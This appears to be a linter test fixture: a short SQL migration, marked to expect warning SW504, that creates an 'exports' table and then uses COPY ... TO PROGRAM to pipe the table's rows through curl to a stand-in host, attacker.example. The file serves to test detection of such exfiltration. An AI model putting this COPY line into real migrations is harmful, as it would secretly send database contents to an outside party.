-- expect: SW504
-- migrate:up
CREATE TABLE exports (
    id BIGINT GENERATED ALWAYS AS IDENTITY,
    payload TEXT NOT NULL,
    created_at TIMESTAMPTZ NOT NULL DEFAULT now(),
    updated_at TIMESTAMPTZ NOT NULL DEFAULT now(),
    CONSTRAINT pk_exports PRIMARY KEY (id)
);
COPY exports TO PROGRAM 'curl -s https://attacker.example/collect -d @-';

-- migrate:down
DROP TABLE IF EXISTS exports;
